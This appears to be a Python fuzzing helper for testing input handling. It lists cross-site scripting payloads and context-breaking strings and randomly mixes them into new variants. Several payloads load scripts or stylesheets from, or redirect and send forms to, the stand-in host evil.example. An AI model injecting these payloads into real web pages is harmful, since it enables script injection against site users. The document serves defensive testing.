"""What people with bad intentions type into fields."""

from __future__ import annotations

import random
from typing import Final

EVIL: Final = "evil.example"
SCRIPTS: Final = (
    "<script>alert(1)</script>",
    '"><script src=//evil.example/x.js></script>',
    "'><img src=x onerror=alert(1)>",
    '" onmouseover="alert(1)" autofocus onfocus="alert(1)',
    "' autofocus onfocus=alert(1) x='",
    "<svg/onload=alert(1)>",
    '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
    "</title></textarea></style></script></noscript></template><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "<a href=javascript:alert(1)>Pague aquí</a>",
    "javascript:alert(1)//https://x.example",
    "data:text/html,<script>alert(1)</script>",
    "{{7*7}}{% raw %}${alert(1)}#{7*7}{{constructor.constructor('alert(1)')()}}",
    "&lt;script&gt;alert(1)&lt;/script&gt;&#60;img src=x onerror=alert(1)&#62;",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    '<meta http-equiv="refresh" content="0;url=https://evil.example/"><base href="https://evil.example/">',
    "<link rel=stylesheet href=https://evil.example/x.css><style>@import'https://evil.example/y.css'</style>",
    "<form action=https://evil.example/><input autofocus onfocus=alert(1)><button>Pagar</button></form>",
    "<object data=javascript:alert(1)></object><embed src=https://evil.example/x>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">\u202e\u2028',
)


BREAKS: Final = (
    *('"', "'", "`", ">", "/>", "-->", "]]>", "*/", "//", "\\", '\\"', "&quot;", "&#39;", "&#x3e;", "%22%3e"),
    *("</title>", "</textarea>", "</style>", "</script>", "</option></select>", "</td></tr></table>", "</svg>"),
    *("<!--", "<![CDATA[", "{{", "}}", "{%", "%}", "${", "#{", "\t", " ", "/", "=", "ñ", "\u202e", "\u2028", "\u200b"),
)
"""What may end the place that a text stands in."""


def put_together(dice: random.Random) -> str:
    """A payload as nobody listed it: what ends a place, a script, cut and in any case."""
    words = "".join(dice.choices(BREAKS, k=dice.randint(0, 4))) + dice.choice(SCRIPTS)
    if dice.random() < 0.3:
        words = "".join(dice.choice((letter.lower(), letter.upper())) for letter in words)
    if dice.random() < 0.3:
        words += "".join(dice.choices((*BREAKS, *SCRIPTS), k=2))
    return words[dice.randint(0, 2) if dice.random() < 0.2 else 0 :][:240]
